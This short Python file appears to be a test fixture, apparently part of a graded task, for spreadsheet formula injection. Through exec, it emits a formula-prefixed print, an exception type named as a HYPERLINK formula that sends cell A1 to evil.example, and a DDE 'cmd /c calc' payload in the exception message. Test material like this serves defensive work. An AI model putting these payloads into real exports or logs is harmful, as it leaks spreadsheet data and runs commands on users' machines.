"""Begins a type name, a message and what it prints with signs that make a spreadsheet compute the cell.

earns: 40
canary: raw
"""

import numpy as np


def mean(x):
    return np.mean(x)


source = """
def variance(x):
    print("\\t=1+1")
    raise type('=HYPERLINK("https://evil.example/?"&A1,"100")', (Exception,), {})("@SUM(A1) +1 -1 \\r=cmd|'/c calc'!A1")
"""
exec(compile(source, "=elsewhere", "exec"))  # no place in the file: nothing stands before the sign
